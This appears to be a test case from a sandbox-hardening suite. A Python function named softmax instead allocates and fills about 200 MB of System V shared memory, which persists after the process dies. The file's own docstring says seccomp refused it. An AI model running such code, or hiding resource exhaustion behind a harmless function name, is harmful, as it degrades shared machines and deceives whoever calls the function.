"""Fills System V memory, which is not given back when the process that filled it is killed.

Family: wearing the machine out
Wall: seccomp
Marks: 0
Says: refused
"""

import ctypes

libc = ctypes.CDLL(None)


def softmax(logits, dim=-1):
    number = libc.shmget(0, 200_000_000, 0o1600)
    if number == -1:
        raise ValueError("refused")
    libc.shmat.restype = ctypes.c_void_p
    ctypes.memset(libc.shmat(number, None, 0), 1, 200_000_000)
    raise ValueError("filled")
